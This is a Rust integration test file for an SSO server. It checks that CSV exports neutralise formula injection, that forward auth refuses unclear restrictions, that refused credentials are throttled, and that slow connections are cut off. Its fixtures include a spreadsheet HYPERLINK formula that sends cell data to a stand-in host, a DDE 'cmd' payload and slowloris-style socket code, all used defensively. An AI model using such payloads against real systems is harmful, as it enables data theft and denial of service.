//! Issue 22: what adversarial testing found — formulas in the CSV export, forward auth failing open,
//! refused credentials flooding the audit log, slow connections, and the smaller ones.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::support::*;

/// Every cell of every row of the export: none may start as a spreadsheet formula.
async fn exported_cells(server: &Server, admin: &str) -> Vec<Vec<String>> {
    let response = server
        .http
        .get(server.url("/api/audit/export.csv"))
        .header("cookie", admin)
        .send()
        .await
        .expect("export");
    assert_eq!(response.status(), 200);
    let text = response.text().await.expect("csv");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|record| {
            record
                .expect("a CSV record")
                .iter()
                .map(str::to_owned)
                .collect()
        })
        .collect()
}

async fn no_cell_of_the_export_is_a_formula(server: Server) {
    let admin = server.configured(json!({})).await;
    let hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
    for username in [hyperlink, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
        let response = server
            .http
            .post(server.url("/api/session"))
            .json(&json!({"username": username, "password": "wrong password!"}))
            .send()
            .await
            .expect("login");
        assert!(response.status().is_client_error());
    }
    let formula_email = "=cmd|'/Ccalc'!A0@example.com";
    let response = server
        .sso(&token(&claims(formula_email, json!({}))), &[])
        .await;
    assert_eq!(response.status(), 302, "a valid address signs in");
    let rows = exported_cells(&server, &admin).await;
    let actors: Vec<&str> = rows.iter().map(|row| row[2].as_str()).collect();
    assert!(
        actors.contains(&"'=hyperlink(\"http://evil.example/?x=\"&a1,\"click\")"),
        "the payload is kept (folded to lower case, as usernames are), as text: {actors:?}"
    );
    assert!(
        actors.iter().any(|actor| actor.starts_with("'=cmd|")),
        "the SSO user's address, as text: {actors:?}"
    );
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula cell: {cell:?} in {row:?}"
            );
        }
    }
}

/// A restriction that is not understood exactly refuses (signed in or not), never allows.
async fn forward_auth_refuses_restrictions_it_does_not_understand(server: Server) {
    let admin = server.configured(json!({})).await;
    let (status, _) = server
        .post_json(
            &admin,
            "/api/permissions/group",
            &json!({"name": "Finance"}),
        )
        .await;
    assert_eq!(status, 201);
    let response = server
        .sso(&token(&claims("kate@example.com", json!({}))), &[])
        .await;
    let kate = session_cookie(response.headers()).expect("kate signs in");
    let verify = |query: &'static str, cookie: Option<String>| {
        let request = server.http.get(server.url(&format!("/auth/verify{query}")));
        async move {
            let request = match cookie {
                Some(cookie) => request.header("cookie", cookie),
                None => request,
            };
            let response = request.send().await.expect("verify");
            let status = response.status().as_u16();
            let user = response.headers().contains_key("x-auth-request-user");
            let body: Value = response.json().await.unwrap_or(Value::Null);
            (
                status,
                user,
                body["error"]["code"].as_str().map(str::to_owned),
            )
        }
    };
    assert_eq!(verify("?admin=true", Some(kate.clone())).await.0, 403);
    assert_eq!(verify("?admin=false", Some(kate.clone())).await.0, 200);
    assert_eq!(verify("?group=Finance", Some(kate.clone())).await.0, 403);
    // An application's own query, passed on by a proxy, restricts nothing and refuses nothing.
    assert_eq!(verify("?x=1&y=2", Some(kate.clone())).await.0, 200);
    assert_eq!(
        verify("?group=Finance&x=1", Some(kate.clone())).await.0,
        403
    );
    for query in [
        "?admin=TRUE",
        "?admin=True",
        "?admin=1",
        "?admin=yes",
        "?admin",
        "?group=",
        "?group",
        "?Group=Finance",
        "?group[]=Finance",
        "?groups=Finance",
        "?is_admin=true",
    ] {
        for cookie in [Some(kate.clone()), None] {
            let (status, user, code) = verify(query, cookie.clone()).await;
            assert_eq!(
                (status, user, code.as_deref()),
                (400, false, Some("invalid_restriction")),
                "{query} signed in: {}",
                cookie.is_some()
            );
        }
    }
}

async fn scim_audit_rows(server: &Server, admin: &str) -> Vec<Value> {
    let (_, page) = server.get_json(admin, "/api/audit?limit=500").await;
    page["data"]
        .as_array()
        .expect("data")
        .iter()
        .filter(|e| {
            ["scim_request", "credentials_refused"].contains(&e["event"].as_str().unwrap_or(""))
        })
        .cloned()
        .collect()
}

/// Wrong SCIM tokens: nothing but a count while SCIM is off; with it on, 10 refusals a minute per
/// address (then 429), one summary entry, nothing of the request in it, no "last request".
async fn refused_scim_requests_cannot_flood_the_audit_log(server: Server) {
    let admin = server.setup_admin().await;
    let long_path = format!("/api/scim/v2/Users/{}", "A".repeat(2_000));
    let scim = |path: String| {
        server
            .http
            .get(server.url(&path))
            .header("authorization", "Bearer nope")
            .send()
    };
    for _ in 0..5 {
        assert_eq!(scim(long_path.clone()).await.expect("scim").status(), 401);
    }
    let huge = format!("/api/scim/v2/Users/{}", "A".repeat(60_000));
    let response = scim(huge).await.expect("scim");
    assert!(
        [414, 431].contains(&response.status().as_u16()),
        "{}",
        response.status()
    );
    assert!(
        scim_audit_rows(&server, &admin).await.is_empty(),
        "SCIM off: nothing"
    );

    let (status, enabled) = server
        .put_json(&admin, "/api/setting/scim", &json!({"enabled": true}))
        .await;
    assert_eq!(status, 200);
    let token = enabled["token"].as_str().expect("token").to_owned();
    let mut statuses = Vec::new();
    for _ in 0..30 {
        let response = scim(long_path.clone()).await.expect("scim");
        if response.status() == 429 {
            assert!(response.headers().contains_key("retry-after"));
            assert_eq!(response.headers()["content-type"], "application/scim+json");
        }
        statuses.push(response.status().as_u16());
    }
    assert_eq!(
        statuses.iter().filter(|&&s| s == 401).count(),
        10,
        "{statuses:?}"
    );
    assert_eq!(
        statuses.iter().filter(|&&s| s == 429).count(),
        20,
        "{statuses:?}"
    );
    let rows = scim_audit_rows(&server, &admin).await;
    assert_eq!(rows.len(), 1, "one summary: {rows:?}");
    assert_eq!(rows[0]["event"], "credentials_refused");
    assert_eq!(
        rows[0]["details"],
        json!({"credential": "scim", "attempts": 1})
    );
    assert!(rows[0]["source"].is_null(), "{rows:?}");
    let (_, card) = server.get_json(&admin, "/api/setting/scim").await;
    assert!(
        card["last_request"].is_null(),
        "nothing authenticated: {card}"
    );
    let (_, metrics) = server.get_text("/metrics").await;
    for line in [
        "lanyard_credentials_refused_total{credential=\"scim\",reason=\"disabled\"} 5",
        "lanyard_credentials_refused_total{credential=\"scim\",reason=\"invalid\"} 10",
        "lanyard_credentials_refused_total{credential=\"scim\",reason=\"throttled\"} 20",
    ] {
        assert!(metrics.contains(line), "{line} in {metrics}");
    }
    // The right token from the same address still passes (behind a proxy all clients share one).
    let right = server
        .http
        .get(server.url("/api/scim/v2/Users"))
        .bearer_auth(&token)
        .send()
        .await
        .expect("scim");
    assert_eq!(right.status(), 200);
}

/// Wrong `X-Api-Key` values leave a trace now, the same way: counted, throttled, summarised.
async fn refused_api_keys_are_counted_throttled_and_summarised(server: Server) {
    let admin = server.setup_admin().await;
    let mut statuses = Vec::new();
    for _ in 0..12 {
        let response = server
            .http
            .get(server.url("/api/user"))
            .header("x-api-key", "lanyard_wrong")
            .send()
            .await
            .expect("request");
        statuses.push(response.status().as_u16());
    }
    assert_eq!(&statuses[..10], &[401; 10]);
    assert_eq!(&statuses[10..], &[429, 429]);
    // The right key from the same address still passes.
    let (_, created) = server
        .post_json(
            &admin,
            "/api/api-key",
            &json!({"name": "ci", "is_admin": true}),
        )
        .await;
    let response = server
        .http
        .get(server.url("/api/user"))
        .header("x-api-key", created["key"].as_str().expect("key"))
        .send()
        .await
        .expect("request");
    assert_eq!(response.status(), 200);
    let (_, page) = server
        .get_json(&admin, "/api/audit?event=credentials_refused")
        .await;
    assert_eq!(page["total"], 1, "{page}");
    assert_eq!(
        page["data"][0]["details"],
        json!({"credential": "api_key", "attempts": 1})
    );
}

/// Idle sockets, headers trickled a byte a second and bodies that never finish are closed after
/// the timeouts, and sign-ins keep working meanwhile.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_and_idle_connections_are_closed_and_sign_ins_keep_working() {
    let server = Server::sqlite_with(|options| {
        options.connections.header_timeout = 2;
        options.connections.body_timeout = 2;
    })
    .await;
    server.configured(json!({})).await;
    let address = server.base.trim_start_matches("http://").to_owned();
    let sockets = tokio::task::spawn_blocking(move || {
        let open = || {
            let stream = TcpStream::connect(&address).expect("connect");
            stream
                .set_read_timeout(Some(Duration::from_millis(100)))
                .expect("timeout");
            stream
        };
        let idle: Vec<TcpStream> = (0..40).map(|_| open()).collect();
        let mut trickling: Vec<TcpStream> = (0..5).map(|_| open()).collect();
        let mut bodies: Vec<TcpStream> = (0..5).map(|_| open()).collect();
        for body in &mut bodies {
            body.write_all(
                b"POST /api/session HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{",
            )
            .expect("write");
        }
        for stream in &mut trickling {
            stream.write_all(b"GET /healthz HTTP/1.1\r\n").expect("write");
        }
        (idle, trickling, bodies)
    })
    .await
    .expect("sockets");
    let (idle, mut trickling, bodies) = sockets;
    // Meanwhile sign-ins work.
    for i in 0..5 {
        let response = server
            .sso(
                &token(&claims(&format!("u{i}@example.com"), json!({}))),
                &[],
            )
            .await;
        assert_eq!(response.status(), 302);
    }
    // Every slow socket is closed within the timeout plus a margin for a busy machine; the
    // trickling ones keep sending a header byte a second until then.
    let closed = tokio::task::spawn_blocking(move || {
        let started = Instant::now();
        let mut open: Vec<(&str, TcpStream)> = idle
            .into_iter()
            .map(|s| ("idle", s))
            .chain(bodies.into_iter().map(|s| ("body", s)))
            .collect();
        let mut last_byte = Instant::now();
        while started.elapsed() < Duration::from_secs(15) {
            if last_byte.elapsed() >= Duration::from_secs(1) {
                trickling.retain_mut(|stream| stream.write_all(b"X").is_ok() && !is_closed(stream));
                last_byte = Instant::now();
            }
            open.retain_mut(|(_, stream)| !is_closed(stream));
            if open.is_empty() && trickling.is_empty() {
                return Ok(started.elapsed());
            }
        }
        Err(format!(
            "still open after 15 s: {:?}, {} trickling",
            open.iter().map(|(kind, _)| *kind).collect::<Vec<_>>(),
            trickling.len()
        ))
    })
    .await
    .expect("join");
    closed.expect("every slow socket is closed");
    let response = server
        .sso(&token(&claims("after@example.com", json!({}))), &[])
        .await;
    assert_eq!(response.status(), 302);
}

/// Whether the server closed `stream` (a read sees the end, or an error other than "no data yet").
fn is_closed(stream: &mut TcpStream) -> bool {
    let mut buffer = [0_u8; 4096];
    loop {
        match stream.read(&mut buffer) {
            Ok(0) => return true,
            // An answer (408/400 or the body's refusal) before the close: keep reading.
            Ok(_) => continue,
            Err(error)
                if matches!(
                    error.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                ) =>
            {
                return false;
            }
            Err(_) => return true,
        }
    }
}

/// At most `--max-connections` are served at once: the next waits for one to close, then is
/// served.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connections_over_the_cap_wait_for_a_free_one() {
    let server = Server::sqlite_with(|options| {
        options.connections.header_timeout = 2;
        options.connections.max_connections = 4;
    })
    .await;
    let address = server.base.trim_start_matches("http://").to_owned();
    let idle: Vec<TcpStream> = (0..4)
        .map(|_| TcpStream::connect(&address).expect("connect"))
        .collect();
    tokio::time::sleep(Duration::from_millis(300)).await;
    let started = Instant::now();
    let response = server
        .http
        .get(server.url("/healthz"))
        .timeout(Duration::from_secs(20))
        .send()
        .await
        .expect("served once an idle connection is closed");
    assert_eq!(response.status(), 200);
    assert!(
        started.elapsed() >= Duration::from_millis(1000),
        "the cap held the fifth connection back ({:?})",
        started.elapsed()
    );
    drop(idle);
}

/// The smaller findings: HSTS and no-store with an https site, 413 in the error shape, the SCIM
/// scheme in any case, ASCII identity headers.
#[tokio::test]
async fn https_sites_get_hsts_and_secrets_are_never_cached() {
    let server = Server::sqlite_with(|options| {
        options.site_url = Some("https://sso.example.test".parse().expect("url"));
    })
    .await;
    let admin = server.setup_admin().await;
    let response = server
        .http
        .get(server.url("/healthz"))
        .send()
        .await
        .expect("get");
    assert_eq!(
        response.headers()["strict-transport-security"],
        "max-age=31536000"
    );
    for (method, path, body) in [
        (
            reqwest::Method::POST,
            "/api/api-key",
            json!({"name": "ci", "is_admin": true}),
        ),
        (
            reqwest::Method::PUT,
            "/api/setting/scim",
            json!({"enabled": true}),
        ),
        (reqwest::Method::POST, "/api/setting/scim/token", json!({})),
    ] {
        let response = server
            .http
            .request(method, server.url(path))
            .header("cookie", &admin)
            .json(&body)
            .send()
            .await
            .expect("request");
        assert!(response.status().is_success(), "{path}");
        assert_eq!(response.headers()["cache-control"], "no-store", "{path}");
        assert!(response.headers().contains_key("strict-transport-security"));
    }
    let login = server
        .http
        .post(server.url("/api/session"))
        .json(&json!({"username": ADMIN_EMAIL, "password": ADMIN_PASSWORD}))
        .send()
        .await
        .expect("login");
    assert_eq!(login.status(), 200);
    assert_eq!(login.headers()["cache-control"], "no-store");

    let plain = Server::sqlite().await;
    let response = plain
        .http
        .get(plain.url("/healthz"))
        .send()
        .await
        .expect("get");
    assert!(!response.headers().contains_key("strict-transport-security"));
}

#[tokio::test]
async fn a_huge_sso_body_is_refused_in_the_error_shape_and_the_bearer_scheme_is_case_insensitive() {
    let server = Server::sqlite().await;
    let admin = server.configured(json!({})).await;
    let response = server
        .http
        .post(server.url("/auth/sso"))
        .header("accept", "application/json")
        .header("content-type", "application/x-www-form-urlencoded")
        .body(vec![b'a'; 5 * 1024 * 1024])
        .send()
        .await
        .expect("post");
    assert_eq!(response.status(), 413);
    let body: Value = response.json().await.expect("JSON error");
    assert_eq!(body["error"]["code"], "request_too_large");

    let (_, enabled) = server
        .put_json(&admin, "/api/setting/scim", &json!({"enabled": true}))
        .await;
    let token = enabled["token"].as_str().expect("token").to_owned();
    for scheme in ["Bearer", "bearer", "BEARER"] {
        let response = server
            .http
            .get(server.url("/api/scim/v2/Users"))
            .header("authorization", format!("{scheme} {token}"))
            .send()
            .await
            .expect("scim");
        assert_eq!(response.status(), 200, "{scheme}");
    }
}

async fn identity_headers_are_ascii(server: Server) {
    server.configured(json!({})).await;
    let response = server
        .sso(
            &token(&claims(
                "jose@example.com",
                json!({"first_name": "José", "last_name": "Müller 100%"}),
            )),
            &[],
        )
        .await;
    let cookie = session_cookie(response.headers()).expect("signed in");
    let response = server.verify("", &[("cookie", &cookie)]).await;
    assert_eq!(response.status(), 200);
    assert_eq!(
        response.headers()["x-auth-request-preferred-username"],
        "Jos%C3%A9 M%C3%BCller 100%25"
    );
    assert_eq!(
        response.headers()["x-auth-request-email"],
        "jose@example.com"
    );
    assert_eq!(response.headers()["x-auth-request-groups"], "All%20Users");
}

on_both_backends!(
    no_cell_of_the_export_is_a_formula,
    forward_auth_refuses_restrictions_it_does_not_understand,
    refused_scim_requests_cannot_flood_the_audit_log,
    refused_api_keys_are_counted_throttled_and_summarised,
    identity_headers_are_ascii,
);
